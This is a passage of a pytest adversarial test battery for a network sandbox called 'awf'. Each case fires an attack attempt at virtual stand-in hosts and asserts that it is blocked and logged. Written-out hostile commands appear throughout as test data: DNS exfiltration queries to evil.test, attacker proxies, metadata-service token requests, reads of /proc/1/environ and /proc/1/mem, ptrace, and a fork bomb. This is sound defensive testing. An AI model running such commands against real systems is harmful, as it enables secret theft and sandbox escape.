"""The adversarial battery: one short attack per case, each run as a shell command inside the
real awf binary in the virtual internet, each asserting that the attempt is blocked and, when a
network attempt is involved, that the matching record is in audit.jsonl / access.log. Local
attacks (routes, sockets, ptrace, credentials, limits) assert the failure and its message.

Every case also checks the run-wide invariants after it (`assert_invariants`): no request or
TLS handshake reached the evil host, the private-range service or the metadata service; no DNS
query for a blocked name reached the test DNS server; no datagram reached a UDP sink; nothing
connected to the loopback canary that listens on awf's own side of the wall.

docs/security.md lists every case with the invariant it tests. Targets are only hosts of the
virtual internet (vnet.py) and loopback."""

from __future__ import annotations

import os
import pwd
import re
import shlex
import shutil
import subprocess
import time
from dataclasses import dataclass, field
from typing import Callable

import pytest

import vnet as V
from conftest import ALLOWED, AWF_BIN, reached

EVIL = (V.EVIL4, V.EVIL6)
NEVER_REACHED = (V.EVIL4, V.EVIL6, V.PRIVATE4, V.METADATA4)
NEVER_ASKED = ("blocked.test", "evil.test")
EXIT_LINE = "Process exiting with code: {}"
NOT_ENFORCED = "--memory-limit and --pids-limit are not enforced"
HOST_MOUNTS = ["nsenter", f"--mount=/proc/{os.getpid()}/ns/mnt", "--wd=.", "--"]  # keeps the cwd (the workspace)

# ---------------------------------------------------------------------------- helper scripts
# A raw TCP client: sends the request (Python escapes: \r \n \xNN), prints the status line
# of the answer (or EMPTY / error) and how long the server kept the connection.
RAW_CLIENT = r'''
import socket, sys, time
host, port, request = sys.argv[1], int(sys.argv[2]), sys.argv[3]
wait = float(sys.argv[4]) if len(sys.argv) > 4 else 5
data = request.encode("ascii").decode("unicode_escape").encode("latin-1")
t0 = time.monotonic()
s = socket.create_connection((host, port), timeout=wait)
s.sendall(data)
got = b""
try:
    while True:
        c = s.recv(65536)
        if not c:
            break
        got += c
except OSError as e:
    print("recv-error", type(e).__name__)
print("status:", got.split(b"\r\n")[0].decode("latin-1") if got else "EMPTY")
print("body:", got.partition(b"\r\n\r\n")[2][:300].decode("latin-1").strip())
print("closed-after: %.1f" % (time.monotonic() - t0))
'''

# Local probes: each prints "<name>: ok" or "<name>: [Errno N] message".
PROBE = r'''
import ctypes, os, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def report(name, fn):
    try:
        fn()
        print(f"{name}: ok", flush=True)
    except OSError as e:
        print(f"{name}: [Errno {e.errno}] {os.strerror(e.errno)}", flush=True)

def check(rc):
    if rc < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))

def sock(*args):
    socket.socket(*args).close()

def netlink_newroute():
    # RTM_NEWROUTE 198.51.100.0/24 dev lo over NETLINK_ROUTE (the socket itself is allowed).
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    rtmsg = struct.pack("BBBBBBBBI", socket.AF_INET, 24, 0, 0, 254, 4, 0, 1, 0)
    dst = struct.pack("HH", 8, 1) + socket.inet_aton("198.51.100.0")
    oif = struct.pack("HHI", 8, 4, 1)
    body = rtmsg + dst + oif
    s.send(struct.pack("IHHII", 16 + len(body), 24, 0x1 | 0x4 | 0x400 | 0x200, 1, 0) + body)
    reply = s.recv(4096)
    err = struct.unpack("i", reply[16:20])[0]
    if err:
        raise OSError(-err, os.strerror(-err))

def ptrace(pid):
    ctypes.set_errno(0)
    check(libc.ptrace(ctypes.c_long(16), ctypes.c_long(pid), None, None))  # PTRACE_ATTACH

def vm_readv(pid):
    buf = ctypes.create_string_buffer(8)
    iov = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 8)
    ctypes.set_errno(0)
    check(libc.syscall(ctypes.c_long(310), ctypes.c_long(pid), iov, ctypes.c_long(1), iov,
                       ctypes.c_long(1), ctypes.c_long(0)))

def sibling():
    pid = os.fork()
    if pid == 0:
        os.setsid()
        time.sleep(20)
        os._exit(0)
    return pid

for what in sys.argv[1:]:
    if what == "af_packet":
        report(what, lambda: sock(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))
    elif what == "raw_ip":
        report(what, lambda: sock(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
    elif what == "raw_ip6":
        report(what, lambda: sock(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
    elif what == "icmp_dgram":
        report(what, lambda: sock(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
    elif what == "netlink_netfilter":
        report(what, lambda: sock(socket.AF_NETLINK, socket.SOCK_RAW, 12))
    elif what == "netlink_audit":
        report(what, lambda: sock(socket.AF_NETLINK, socket.SOCK_RAW, 9))
    elif what == "netlink_newroute":
        report(what, netlink_newroute)
    elif what == "ptrace_sibling":
        pid = sibling()
        report(what, lambda: ptrace(pid))
        os.kill(pid, 9); os.waitpid(pid, 0)
    elif what == "ptrace_init":
        report(what, lambda: ptrace(1))
    elif what == "vm_readv_init":
        report(what, lambda: vm_readv(1))
    elif what == "proc_mem_init":
        report(what, lambda: open("/proc/1/mem", "rb").close())
    elif what == "environ_init":
        report(what, lambda: open("/proc/1/environ", "rb").read())
    else:
        print(f"{what}: unknown probe")
'''

IO_URING_C = r'''
#include <errno.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void) {
  struct io_uring_params p;
  memset(&p, 0, sizeof p);
  long fd = syscall(__NR_io_uring_setup, 8, &p);
  if (fd < 0) {
    printf("io_uring_setup: [Errno %d] %s\n", errno, strerror(errno));
    return 1;
  }
  printf("io_uring_setup: ok (fd %ld): IORING_OP_SOCKET would be next\n", fd);
  return 0;
}
'''

FORK_BOMB = r'''
import os, time
forked = refused = 0
err = ""
for _ in range(300):
    try:
        pid = os.fork()
    except OSError as e:
        refused += 1
        err = os.strerror(e.errno)
        continue
    if pid == 0:
        time.sleep(10)
        os._exit(0)
    forked += 1
print(f"forked={forked} refused={refused} error={err}", flush=True)
'''

# Listeners on awf's side of the wall (the vnet's host namespace, where awf and its outbound
# sockets live): loopback TCP ports a confused gateway could be steered to, a fake Docker API
# and D-Bus socket at the top of the host's /tmp, and an abstract D-Bus-style socket.
CANARY = r'''
import os, socket, sys, threading, time
log, docker, dbus, abstract = sys.argv[1:5]
socks = []
for fam, addr in ((socket.AF_INET, ("127.0.0.1", 80)), (socket.AF_INET, ("127.0.0.1", 443)),
                  (socket.AF_INET, ("127.0.0.1", 8080)), (socket.AF_INET6, ("::1", 80))):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(addr)
    s.listen(64)
    socks.append((s, f"{addr[0]}:{addr[1]}"))
for path in (docker, dbus, "\0" + abstract):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(path)
    s.listen(8)
    if not path.startswith("\0"):
        os.chmod(path, 0o777)
    socks.append((s, path.replace("\0", "@")))
lock = threading.Lock()
def serve(s, name):
    while True:
        c, _ = s.accept()
        with lock, open(log, "a") as f:
            f.write(name + "\n")
        try:
            c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 15\r\n\r\ncanary-reached\n")
        except OSError:
            pass
        c.close()
for s, name in socks:
    threading.Thread(target=serve, args=(s, name), daemon=True).start()
print("ready", flush=True)
sys.stdin.read()
'''


def write_script(vnet, name: str, source: str, mode: int = 0o644) -> str:
    path = os.path.join(vnet.scratch_dir, name)
    with open(path, "w") as f:
        f.write(source)
    os.chmod(path, mode)
    return path


@dataclass
class Env:
    """What a case's command template and check can use."""
    vnet: V.VNet
    raw: str
    probe: str
    io_uring: str | None
    fork_bomb: str
    canary_log: str
    docker_sock: str
    dbus_sock: str
    abstract: str
    cred_user: dict | None = None
    logs_dir: str = ""

    def fmt(self) -> dict:
        ca = self.vnet.ca_path
        return {
            # A proxy-aware client: the proxy from HTTPS_PROXY for http:// URLs too (awf leaves
            # the lower-case http_proxy unset, as AWF); a case that empties it goes transparent.
            "curl": f"curl -sS --max-time 5 --cacert {ca} --proxy \"$HTTPS_PROXY\"",
            "ncurl": f"curl -sS --max-time 5 --cacert {ca} --noproxy '*'",
            "codes": "-o /dev/null -w 'code=%{http_code} connect=%{http_connect}\\n'",
            "raw": f"{V.PY} {self.raw}", "probe": f"{V.PY} {self.probe}", "py": V.PY,
            "ca": ca, "io_uring": self.io_uring or "false", "fork_bomb": self.fork_bomb,
            "docker": self.docker_sock, "dbus": self.dbus_sock, "abstract": self.abstract,
            "logs": self.logs_dir, "exfil": EXFIL_NAME,
        }


@pytest.fixture(scope="module")
def env(vnet, tmp_path_factory):
    nonce = os.urandom(4).hex()
    raw = write_script(vnet, f"bat-raw-{nonce}.py", RAW_CLIENT)
    probe = write_script(vnet, f"bat-probe-{nonce}.py", PROBE)
    fork_bomb = write_script(vnet, f"bat-fork-{nonce}.py", FORK_BOMB)
    io_uring = None
    cc = shutil.which("cc", path=V.SAFE_PATH)
    if cc:
        src = write_script(vnet, f"bat-uring-{nonce}.c", IO_URING_C)
        binary = os.path.join(vnet.scratch_dir, f"bat-uring-{nonce}")
        if subprocess.run([cc, "-O1", "-o", binary, src], capture_output=True).returncode == 0:
            os.chmod(binary, 0o755)
            io_uring = binary
    canary_log = write_script(vnet, f"bat-canary-{nonce}.log", "")
    os.chmod(canary_log, 0o666)
    docker = f"/tmp/awfit-{nonce}-docker.sock"
    dbus = f"/tmp/awfit-{nonce}-dbus-system_bus_socket"
    abstract = f"/tmp/dbus-awfit{nonce}"
    server = write_script(vnet, f"bat-canary-{nonce}.py", CANARY)
    p = subprocess.Popen(vnet.host_cmd([V.PY, server, canary_log, docker, dbus, abstract]),
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert p.stdout.readline().strip() == "ready"
        # Control: from awf's side of the wall, the canary answers.
        for _ in range(40):
            ctl = vnet.host_run(["curl", "-sS", "--max-time", "3", "http://127.0.0.1/",
                                 "--unix-socket", docker])
            if "canary-reached" in ctl.stdout:
                break
            time.sleep(0.05)
        assert "canary-reached" in ctl.stdout, ctl
        ctl = vnet.host_run(["curl", "-sS", "--max-time", "3", "http://127.0.0.1/"])
        assert "canary-reached" in ctl.stdout, ctl
        open(canary_log, "w").close()
        yield Env(vnet, raw, probe, io_uring, fork_bomb, canary_log, docker, dbus, abstract)
    finally:
        p.stdin.close()
        p.terminate()
        p.wait(timeout=10)
        for path in (docker, dbus):
            if os.path.exists(path):
                os.unlink(path)


@pytest.fixture(scope="module")
def cred_user(vnet):
    """A throwaway user whose HOME holds credentials (removed afterwards)."""
    if shutil.which("useradd", path=V.SAFE_PATH) is None:
        pytest.skip("useradd missing")
    name = f"awfbat{os.urandom(3).hex()}"
    home = f"/home/{name}"
    V.run(["useradd", "-M", "-U", "-d", home, "-s", "/bin/sh", name])
    try:
        pw = pwd.getpwnam(name)
        for rel in CREDENTIALS:
            path = os.path.join(home, rel)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(f"SECRET-{rel}\n")
        for root, dirs, files in os.walk(home):
            for n in dirs + files:
                os.lchown(os.path.join(root, n), pw.pw_uid, pw.pw_gid)
        os.chown(home, pw.pw_uid, pw.pw_gid)
        os.chmod(home, 0o755)
        yield {"name": name, "home": home}
    finally:
        V.run(["userdel", name], check=False)
        V.run(["groupdel", name], check=False)
        shutil.rmtree(home, ignore_errors=True)


@pytest.fixture(scope="module")
def cgroups(vnet):
    if not (os.path.isfile(AWF_BIN) and shutil.which("nsenter", path=V.SAFE_PATH)):
        pytest.skip("awf or nsenter missing")
    r = vnet.awf_run(AWF_BIN, ["-d", "allowed.test"], ["true"], label="bat-cgroup-probe",
                     prefix=HOST_MOUNTS)
    if NOT_ENFORCED in r.stderr:
        pytest.skip("this host cannot enforce cgroup limits: " +
                    r.stderr.split(NOT_ENFORCED + ": ", 1)[1].splitlines()[0])


# ---------------------------------------------------------------------------- assertions
def deny(r, name=None, **kw) -> list[dict]:
    """Deny records in audit.jsonl for `name` (normalized) matching every keyword."""
    recs = [x for x in r.audit if x.get("action") == "deny"
            and (name is None or str(x.get("name") or "").lower() == name.lower())
            and all(x.get(k) == v for k, v in kw.items())]
    assert recs, f"no deny record name={name} {kw}" + r.describe()
    return recs


def reason(r, text: str, **kw):
    recs = [x for x in deny(r, **kw) if text.lower() in str(x.get("reason", "")).lower()]
    assert recs, f"no deny record with reason containing {text!r}" + r.describe()


def access(r, status: int, name=None, method=None) -> list[dict]:
    lines = [d for d in r.access if "_error" not in d and d.get("status") == status
             and (name is None or d.get("name").rstrip(".") == name.lower()
                  or (d.get("host") or "").split(":")[0].lower().rstrip(".") == name.lower())
             and (method is None or d.get("method") == method)]
    assert lines, f"no access.log line status={status} name={name} method={method}" + r.describe()
    assert all(d["squid_status"] == "TCP_DENIED" and d["dest_addr"] is None for d in lines), r.describe()
    return lines


def blocked(r, transport: str, url: str):
    recs = [x for x in r.audit if x.get("kind") == "blocked" and x.get("transport") == transport
            and x.get("url") == url and x.get("action") == "deny"]
    assert recs, f"no blocked {transport} record for {url}" + r.describe()


def dns_refused(r, name: str, transport: str | None = None):
    recs = [x for x in deny(r, name, kind="dns") if transport is None or x.get("transport") == transport]
    assert recs and all(x.get("rcode") == "NXDOMAIN" for x in recs), r.describe()


def out(r, pattern: str):
    assert re.search(pattern, r.stdout + r.stderr, re.M), f"no /{pattern}/ in output" + r.describe()


def no_out(r, pattern: str):
    assert not re.search(pattern, r.stdout, re.M), f"/{pattern}/ in output" + r.describe()


def http_denied(r, name, status=403, transport="explicit", method="GET"):
    deny(r, name, kind="http", status=status, transport=transport)
    access(r, status, name, method)
    out(r, rf"code={status}|status: HTTP/1.1 {status}")


def connect_denied(r, name, port=443):
    deny(r, name, kind="connect", status=403, url=f"{name}:{port}")
    access(r, 403, name, "CONNECT")


def tls_denied(r, name):
    deny(r, name, kind="tls", transport="transparent")
    access(r, 403, name, "CONNECT")
    no_out(r, "^origin=")


def answered_at_once(r):
    """The raw client's answer came well before any timeout (its own is 4 s here)."""
    m = re.search(r"^closed-after: ([\d.]+)", r.stdout, re.M)
    assert m and float(m.group(1)) < 2, r.describe()


def no_name(r, status):
    """A request that names no host is on record without a name, never with its path: an
    empty `name` in audit.jsonl, `-` for the Host field in access.log."""
    recs = [x for x in r.audit if x.get("kind") == "http" and x.get("status") == status]
    assert recs and all(x.get("name") == "" for x in recs), r.describe()
    lines = [d for d in r.access if d.get("status") == status]
    assert lines and all(d.get("host") == "-" for d in lines), r.describe()


def smuggle_denied(r, text):
    out(r, "^status: HTTP/1.1 400")
    lines = [d for d in r.access if d.get("status") == 400]
    assert lines, r.describe()
    reason(r, text, kind="http", status=400)


# ---------------------------------------------------------------------------- the cases
@dataclass
class Case:
    id: str
    cmd: str                       # bash script; {curl} {ncurl} {raw} ... see Env.fmt
    check: Callable                # check(r, env)
    args: list = field(default_factory=lambda: ["-d", "allowed.test"])
    invariant: str = ""
    marks: list = field(default_factory=list)
    fixture: str | None = None     # "cred_user" or "cgroups"
    timeout: float = 30


def label_250() -> str:
    """A 250-byte name under evil.test whose labels look like base32 of a secret."""
    chunk = ("mzxw6ytboi" * 7)[:63]
    name = ".".join([chunk] * 3 + [chunk[:48]]) + ".evil.test"
    assert len(name) == 250
    return name


EXFIL_NAME = label_250()
DOH_QUERY = "AAABAAABAAAAAAAAB2FsbG93ZWQEdGVzdAAAAQAB"  # base64url of an A query for allowed.test
R = "{raw} 127.0.0.1 3128"          # raw request to the explicit proxy
T = f"{{raw}} {V.ALLOWED4} 80"      # raw request to a transparent port (allowed.test's address)
ALLOWED_BODY = "{raw} 127.0.0.1 3128 'POST http://allowed.test/echo HTTP/1.1\\r\\nHost: allowed.test\\r\\n"

CASES: list[Case] = [
    # ---- names the policy does not allow
    Case("connect-blocked-name", "{curl} {codes} https://blocked.test/",
         lambda r, e: connect_denied(r, "blocked.test"), invariant="allowlist (CONNECT)"),
    Case("http-blocked-name-proxy", "{curl} {codes} http://blocked.test/",
         lambda r, e: http_denied(r, "blocked.test"), invariant="allowlist (proxy HTTP)"),
    Case("https-blocked-transparent", f"{{ncurl}} --resolve blocked.test:443:{V.EVIL4} https://blocked.test/",
         lambda r, e: tls_denied(r, "blocked.test"), invariant="single egress: transparent TLS decided by SNI"),
    Case("http-blocked-transparent", f"{{ncurl}} {{codes}} --resolve blocked.test:80:{V.EVIL4} http://blocked.test/",
         lambda r, e: http_denied(r, "blocked.test", transport="transparent"),
         invariant="single egress: transparent HTTP decided by Host"),
    Case("blocked-sni-at-allowed-address",
         f"openssl s_client -connect {V.ALLOWED4}:443 -servername blocked.test -CAfile {{ca}} </dev/null",
         lambda r, e: (tls_denied(r, "blocked.test"), no_out(r, "BEGIN CERTIFICATE")),
         invariant="decide by name (SNI), not by dialled address"),
    Case("connect-to-blocked-via-allowed", f"{{ncurl}} --connect-to blocked.test:443:{V.ALLOWED4}:443 https://blocked.test/",
         lambda r, e: tls_denied(r, "blocked.test"), invariant="decide by name (SNI)"),
    Case("connect-to-evil-address", f"{{ncurl}} --connect-to allowed.test:80:{V.EVIL4}:80 http://allowed.test/ct",
         lambda r, e: (out(r, f"^origin={V.ALLOWED4} host=allowed.test"),
                       [d for d in r.access if d["status"] == 200 and d["dest_addr"] in ALLOWED] or
                       pytest.fail("no allowed line" + r.describe())),
         invariant="connect by awf's own resolution (dialled address ignored)"),
    Case("suffix-confusion", "{curl} {codes} http://allowed.test.blocked.test/",
         lambda r, e: http_denied(r, "allowed.test.blocked.test"), invariant="name matching on label boundaries"),
    Case("lookalike-suffix", "{curl} {codes} http://notallowed.test/",
         lambda r, e: http_denied(r, "notallowed.test"), invariant="name matching on label boundaries"),
    Case("mixed-case-host", "{curl} {codes} http://BlOcKeD.TeSt/",
         lambda r, e: http_denied(r, "blocked.test"), invariant="names normalized before the decision"),
    Case("trailing-dot-host", "{curl} {codes} http://blocked.test./",
         lambda r, e: http_denied(r, "blocked.test"), invariant="names normalized before the decision"),
    Case("percent-encoded-host", R + " 'GET http://%62locked.test/ HTTP/1.1\\r\\nHost: %62locked.test\\r\\n\\r\\n'",
         lambda r, e: (out(r, "^status: HTTP/1.1 403"), reason(r, "invalid host name", kind="http")),
         invariant="invalid names denied, never decoded after the decision"),
    Case("percent-encoded-dot", R + " 'GET http://blocked.test%2e.allowed.test/ HTTP/1.1\\r\\nHost: blocked.test%2e.allowed.test\\r\\n\\r\\n'",
         lambda r, e: (out(r, "^status: HTTP/1.1 403"), reason(r, "invalid host name", kind="http")),
         invariant="invalid names denied (no %2e label smuggling)"),
    Case("idn-homograph", "{curl} {codes} http://\u0430llowed.test/",
         lambda r, e: http_denied(r, "xn--llowed-2nf.test"), invariant="IDN compared in punycode"),
    Case("idn-homograph-raw-utf8", R + " 'GET http://\\xd0\\xb0llowed.test/ HTTP/1.1\\r\\nHost: \\xd0\\xb0llowed.test\\r\\n\\r\\n'",
         lambda r, e: (out(r, "^status: HTTP/1.1 40[03]"), deny(r, kind="http")),
         invariant="raw UTF-8 host never matches the ASCII allow entry"),
    # ---- raw IPs and numeric forms
    Case("https-raw-ip-proxy", f"{{curl}} {{codes}} https://{V.OTHER4}/",
         lambda r, e: connect_denied(r, V.OTHER4), invariant="raw-IP targets refused unless allowed"),
    Case("https-raw-ip-transparent", f"{{ncurl}} https://{V.OTHER4}/",
         lambda r, e: (deny(r, kind="tls"), no_out(r, "^origin=")), invariant="transparent TLS without SNI denied"),
    Case("ipv6-literal-proxy", "{curl} {codes} http://[2001:db8:1::20]/",
         lambda r, e: http_denied(r, V.EVIL6), invariant="raw-IP targets refused (IPv6)"),
    Case("ipv6-literal-transparent", "{ncurl} https://[2001:db8:1::20]/",
         lambda r, e: (deny(r, kind="tls"), no_out(r, "^origin=")), invariant="raw-IP targets refused (IPv6, transparent)"),
    Case("hex-ip-literal", R + " 'GET http://0x7f000001/ HTTP/1.1\\r\\nHost: 0x7f000001\\r\\n\\r\\n'",
         lambda r, e: (out(r, "^status: HTTP/1.1 403"), reason(r, "invalid host name", name="0x7f000001")),
         invariant="numeric host forms are not names and never reach loopback"),
    Case("decimal-ip-literal", R + " 'GET http://2130706433/ HTTP/1.1\\r\\nHost: 2130706433\\r\\n\\r\\n'",
         lambda r, e: (out(r, "^status: HTTP/1.1 403"), reason(r, "invalid host name", name="2130706433")),
         invariant="numeric host forms are not names and never reach loopback"),
    Case("octal-ip-literal", R + " 'GET http://0177.0.0.1/ HTTP/1.1\\r\\nHost: 0177.0.0.1\\r\\n\\r\\n'",
         lambda r, e: (out(r, "^status: HTTP/1.1 403"), deny(r, "0177.0.0.1", kind="http")),
         invariant="numeric host forms are not names and never reach loopback"),
    Case("short-ip-literal", R + " 'GET http://127.1/ HTTP/1.1\\r\\nHost: 127.1\\r\\n\\r\\n'",
         lambda r, e: (out(r, "^status: HTTP/1.1 403"), deny(r, "127.1", kind="http")),
         invariant="numeric host forms are not names and never reach loopback"),
    Case("v4-mapped-loopback", R + " 'GET http://[::ffff:127.0.0.1]/ HTTP/1.1\\r\\nHost: [::ffff:127.0.0.1]\\r\\n\\r\\n'",
         lambda r, e: (out(r, "^status: HTTP/1.1 403"), deny(r, kind="http", status=403)),
         invariant="raw-IP targets refused (v4-mapped loopback)"),
    Case("decimal-ip-transparent", "{ncurl} {codes} http://2130706433/",
         lambda r, e: http_denied(r, "127.0.0.1", transport="transparent"),
         invariant="loopback inside the sandbox is awf's listener; loopback outside never reached"),
    # ---- ports
    Case("connect-allowed-port-22", R + " 'CONNECT allowed.test:22 HTTP/1.1\\r\\nHost: allowed.test:22\\r\\n\\r\\n'",
         lambda r, e: (out(r, "^status: HTTP/1.1 403"), connect_denied(r, "allowed.test", 22),
                       reason(r, "port 22")), invariant="proxy ports 80/443 only"),
    Case("ssh-banner-allowed-host", f"timeout 5 bash -c 'exec 3<>/dev/tcp/{V.ALLOWED4}/22 && head -c 64 <&3'; echo rc=$?",
         lambda r, e: (out(r, "Connection refused"), no_out(r, "SSH-"), blocked(r, "tcp", f"{V.ALLOWED4}:22")),
         invariant="no route out: other ports refused at once, logged"),
    Case("ssh-banner-nc-by-name", "nc -w 3 allowed.test 22 </dev/null; echo rc=$?",
         lambda r, e: (out(r, "^rc=1"), no_out(r, "SSH-"),
                       blocked(r, "tcp", f"{V.ALLOWED4}:22") if any(x.get("url") == f"{V.ALLOWED4}:22" for x in r.audit)
                       else blocked(r, "tcp", f"[{V.ALLOWED6}]:22")),
         invariant="no route out: other ports refused at once, logged"),
    *[Case(f"connect-dangerous-port-{p}", f"{{curl}} {{codes}} -p http://allowed.test:{p}/",
           lambda r, e, p=p: (out(r, "connect=403"), connect_denied(r, "allowed.test", p)),
           invariant="proxy ports 80/443 only") for p in (25, 2375, 6379)],
    *[Case(f"direct-dangerous-port-{p}", f"bash -c 'echo x >/dev/tcp/{V.ALLOWED4}/{p}'; echo rc=$?",
           lambda r, e, p=p: (out(r, "Connection refused"), blocked(r, "tcp", f"{V.ALLOWED4}:{p}")),
           invariant="no route out: other ports refused, logged") for p in (25, 2375, 3306)],
    Case("http-proxy-port-8080", "{curl} {codes} http://allowed.test:8080/",
         lambda r, e: (http_denied(r, "allowed.test"), reason(r, "port 8080")), invariant="proxy ports 80/443 only"),
    Case("attacker-proxy", f"{{curl}} -x http://{V.EVIL4}:3128 http://allowed.test/; echo rc=$?",
         lambda r, e: (out(r, "^rc=7"), blocked(r, "tcp", f"{V.EVIL4}:3128")),
         invariant="single egress: another proxy is unreachable (only 127.0.0.1:3128 is awf's)"),
    Case("attacker-proxy-other-port", f"{{curl}} -x http://{V.EVIL4}:8888 http://allowed.test/; echo rc=$?",
         lambda r, e: (out(r, "^rc=7"), blocked(r, "tcp", f"{V.EVIL4}:8888")),
         invariant="single egress: another proxy is unreachable"),
    Case("attacker-socks", f"{{curl}} --socks5-hostname {V.EVIL4}:1080 http://allowed.test/; echo rc=$?",
         lambda r, e: (out(r, "^rc=(7|97)"), blocked(r, "tcp", f"{V.EVIL4}:1080")),
         invariant="single egress: SOCKS is unreachable"),
    Case("connect-on-transparent-port", T + " 'CONNECT blocked.test:443 HTTP/1.1\\r\\nHost: blocked.test:443\\r\\n\\r\\n'",
         lambda r, e: (out(r, "^status: HTTP/1.1 405"), reason(r, "CONNECT on a transparent port", status=405)),
         invariant="transparent ports are not a proxy"),
    # ---- UDP, ICMP
    Case("udp-443-quic", f"echo quic >/dev/udp/{V.EVIL4}/443; echo q6 >/dev/udp/{V.ALLOWED6}/443; sleep 0.2",
         lambda r, e: (blocked(r, "udp", f"{V.EVIL4}:443"), blocked(r, "udp", f"[{V.ALLOWED6}]:443")),
         invariant="no route out: UDP delivered locally, logged"),
    Case("udp-ntp", f"echo ntp >/dev/udp/{V.OTHER4}/123; sleep 0.2",
         lambda r, e: blocked(r, "udp", f"{V.OTHER4}:123"), invariant="no route out: UDP delivered locally, logged"),
    Case("icmp-ping", f"ping -c 1 -W 1 {V.EVIL4}; echo rc=$?",
         lambda r, e: (out(r, "Operation not permitted"), no_out(r, "1 received"), no_out(r, "^rc=0")),
         invariant="no raw sockets: ping cannot even be executed with its file capability"),
    Case("icmp-datagram-socket", "{probe} icmp_dgram",
         lambda r, e: out(r, r"^icmp_dgram: \[Errno 13\] Permission denied"),
         invariant="ICMP datagram sockets disabled (ping_group_range)"),
    # ---- DNS
    Case("dns-udp-blocked-name", f"dig +time=2 +tries=1 @{V.DNS4} blocked.test",
         lambda r, e: (out(r, "status: NXDOMAIN"), dns_refused(r, "blocked.test", "udp")),
         invariant="no DNS for non-allowed names leaves the host"),
    Case("dns-tcp-blocked-name", f"dig +tcp +time=2 +tries=1 @{V.DNS4} evil.test",
         lambda r, e: (out(r, "status: NXDOMAIN"), dns_refused(r, "evil.test", "tcp")),
         invariant="no DNS for non-allowed names leaves the host (TCP)"),
    Case("dns-ipv6-server-blocked-name", f"dig +time=2 +tries=1 @{V.DNS6} TXT blocked.test",
         lambda r, e: (out(r, "status: NXDOMAIN"), dns_refused(r, "blocked.test")),
         invariant="dig @<any address> meets awf's DNS"),
    Case("dns-exfil-250-bytes", f"dig +time=2 +tries=1 @{V.DNS4} {{exfil}}",
         lambda r, e: (out(r, "status: NXDOMAIN"), dns_refused(r, EXFIL_NAME, "udp")),
         invariant="DNS exfiltration channel closed"),
    Case("dns-exfil-txt-tcp", f"dig +tcp +time=2 +tries=1 @{V.DNS4} TXT c2VjcmV0LXRva2Vu.x.evil.test",
         lambda r, e: (out(r, "status: NXDOMAIN"), dns_refused(r, "c2vjcmv0lxrva2vu.x.evil.test")),
         invariant="DNS exfiltration channel closed (TXT over TCP)"),
    Case("dns-zone-transfer", f"dig +time=2 +tries=1 @{V.DNS4} AXFR allowed.test",
         lambda r, e: (out(r, "Transfer failed"), reason(r, "zone transfers are refused", name="allowed.test", kind="dns")),
         invariant="zone transfers refused"),
    Case("dot-port-853", f"timeout 3 bash -c 'echo x >/dev/tcp/{V.DNS4}/853'; echo rc=$?",
         lambda r, e: (out(r, "Connection refused"), blocked(r, "tcp", f"{V.DNS4}:853")),
         invariant="DNS over TLS: port refused, logged"),
    Case("doh-blocked-host-proxy", f"{{curl}} {{codes}} -H 'accept: application/dns-message' 'https://evil.test/dns-query?dns={DOH_QUERY}'",
         lambda r, e: connect_denied(r, "evil.test"), invariant="DoH to a non-allowed host denied"),
    Case("doh-blocked-host-transparent", f"{{ncurl}} --resolve evil.test:443:{V.EVIL4} -H 'accept: application/dns-message' 'https://evil.test/dns-query?dns={DOH_QUERY}'",
         lambda r, e: tls_denied(r, "evil.test"), invariant="DoH to a non-allowed host denied (transparent)"),
    Case("doh-raw-ip", f"{{curl}} {{codes}} 'https://{V.EVIL4}/dns-query?dns={DOH_QUERY}'",
         lambda r, e: connect_denied(r, V.EVIL4), invariant="DoH to a raw IP denied"),
    # ---- internal addresses
    Case("metadata-plain", f"{{ncurl}} {{codes}} http://{V.METADATA4}/latest/meta-data/",
         lambda r, e: http_denied(r, V.METADATA4, transport="transparent"), invariant="metadata service unreachable"),
    Case("metadata-headers", f"{{ncurl}} {{codes}} -H 'Metadata-Flavor: Google' -H 'Metadata: true' http://{V.METADATA4}/computeMetadata/v1/",
         lambda r, e: http_denied(r, V.METADATA4, transport="transparent"), invariant="metadata service unreachable"),
    Case("metadata-imdsv2-token", f"{{curl}} {{codes}} -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600' http://{V.METADATA4}/latest/api/token",
         lambda r, e: http_denied(r, V.METADATA4, method="PUT"), invariant="metadata service unreachable (proxy)"),
    Case("metadata-https-transparent", f"{{ncurl}} https://{V.METADATA4}/",
         lambda r, e: (deny(r, kind="tls"), no_out(r, "^origin=")), invariant="metadata service unreachable (TLS)"),
    Case("metadata-by-allowed-name", "{curl} {codes} http://metadata.test/latest/",
         lambda r, e: (http_denied(r, "metadata.test"), reason(r, "internal address", name="metadata.test")),
         args=["-d", "metadata.test"], invariant="allowed name resolving to link-local refused"),
    Case("private-ip-literal", f"{{ncurl}} {{codes}} http://{V.PRIVATE4}/",
         lambda r, e: http_denied(r, V.PRIVATE4, transport="transparent"), invariant="RFC 1918 unreachable"),
    Case("private-ip-literal-connect", f"{{curl}} {{codes}} https://{V.PRIVATE4}/",
         lambda r, e: connect_denied(r, V.PRIVATE4), invariant="RFC 1918 unreachable (CONNECT)"),
    Case("private-by-allowed-name", "{curl} {codes} https://private.test/",
         lambda r, e: (connect_denied(r, "private.test"), reason(r, "internal address", name="private.test")),
         args=["-d", "private.test"], invariant="allowed name resolving to RFC 1918 refused"),
    Case("private-by-allowed-name-transparent", f"{{ncurl}} {{codes}} --resolve private.test:80:{V.PRIVATE4} http://private.test/",
         lambda r, e: (http_denied(r, "private.test", transport="transparent"), reason(r, "internal address", name="private.test")),
